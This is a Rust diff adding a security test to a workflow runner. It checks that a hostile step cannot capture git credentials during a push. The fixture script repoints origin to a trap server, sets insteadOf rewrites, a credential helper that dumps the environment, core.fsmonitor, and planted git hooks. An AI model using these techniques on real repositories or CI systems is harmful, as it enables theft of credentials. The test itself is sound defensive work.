@@ -807,3 +807,111 @@ fn over_http_a_token_secret_is_the_password_of_x_access_token() {
     );
     assert!(!said.contains(token), "the token was printed: {said}");
 }
+
+/// The steps of a hostile script (issue 32, item 5): after an honest
+/// commit it points `origin` at `TRAP` (and every URL of the honest server
+/// there too, with `insteadOf`), plants a `pre-push` and a
+/// `reference-transaction` hook, `core.fsmonitor` and a credential helper,
+/// each writing its environment (the password, if git handed it one) into
+/// `EVIDENCE`.
+const HOSTILE: &str = r#"    - key: edit
+      script:
+        source: |
+          set -e
+          cd app
+          echo changed >> README
+          git commit --quiet -am "edit on $BRANCH"
+          git remote set-url origin "TRAP/app.git"
+          git config url."TRAP/".insteadOf "HONEST/"
+          git config credential.helper '!f() { env >> "EVIDENCE/helper"; }; f'
+          git config core.fsmonitor "EVIDENCE/fsmonitor.sh"
+          for hook in pre-push reference-transaction post-update; do
+            printf '#!/bin/sh\nenv >> "EVIDENCE/%s"\n' "$hook" > ".git/hooks/$hook"
+            chmod +x ".git/hooks/$hook"
+          done
+          printf '{"commit": "%s"}' "$(git rev-parse HEAD)"
+"#;
+
+#[test]
+fn a_step_that_repoints_origin_and_plants_hooks_never_gets_the_credentials() {
+    use coxswain_test_support::auth_trap::AuthTrap;
+    let password = "pw-e5e1d7a2c3";
+    let http = GitHttp::start("ana", password).expect("lighttpd starts");
+    let repo = http.create_repo("app");
+    let trap = AuthTrap::start().expect("the trap listens");
+    let dir = tempfile::tempdir().expect("temp dir");
+    let evidence = dir.path().join("evidence");
+    std::fs::create_dir(&evidence).expect("evidence dir");
+    let fsmonitor = evidence.join("fsmonitor.sh");
+    std::fs::write(
+        &fsmonitor,
+        format!("#!/bin/sh\nenv >> \"{}/fsmonitor\"\n", evidence.display()),
+    )
+    .expect("write fsmonitor");
+    git(dir.path(), &["init", "--quiet", "control"]);
+    Command::new("chmod")
+        .arg("+x")
+        .arg(&fsmonitor)
+        .status()
+        .expect("chmod");
+
+    // The trap works: git with a helper that has credentials sends them.
+    let control = Command::new("git")
+        .args([
+            "-c",
+            "credential.helper=!f() { echo username=u; echo password=canary-1; }; f",
+            "ls-remote",
+            &trap.url("control.git"),
+        ])
+        .env("GIT_TERMINAL_PROMPT", "0")
+        .output()
+        .expect("git runs");
+    assert!(!control.status.success());
+    assert!(
+        !trap.seen().authorizations.is_empty(),
+        "the trap records a login: {:?}",
+        trap.seen()
+    );
+    let before = trap.seen().requests.len();
+
+    let honest_base = format!("http://127.0.0.1:{}", http.port());
+    let steps = HOSTILE
+        .replace("TRAP", trap.url("").trim_end_matches('/'))
+        .replace("HONEST", &honest_base)
+        .replace("EVIDENCE", &evidence.display().to_string());
+    let file = flow(dir.path(), &app_workspace_at(&repo.url, true), &steps);
+    let o = run_with_secret(&file, &[("USERNAME", "ana"), ("PASSWORD", password)]);
+    let said = format!(
+        "{}{}",
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    );
+    let seen = trap.seen();
+    assert_eq!(
+        seen.requests.len(),
+        before,
+        "nothing reached the trap: {seen:?}\n{said}"
+    );
+    let mut ran: Vec<String> = std::fs::read_dir(&evidence)
+        .expect("evidence")
+        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
+        .filter(|n| n != "fsmonitor.sh")
+        .collect();
+    ran.sort();
+    assert!(
+        ran.is_empty(),
+        "planted commands ran during the push: {ran:?}"
+    );
+    let r = succeeded(&o);
+    let edited = r["steps"]["edit"]["output"]["commit"]
+        .as_str()
+        .expect("edit's commit");
+    let branch = r["workspace"]["branch"].as_str().expect("branch");
+    assert_eq!(r["workspace"]["pushed"][0]["commit"], edited, "{said}");
+    assert_eq!(
+        http.branch("app", branch).as_deref(),
+        Some(edited),
+        "the push went to the flow's URL"
+    );
+    assert!(!said.contains(password), "the password was printed: {said}");
+}
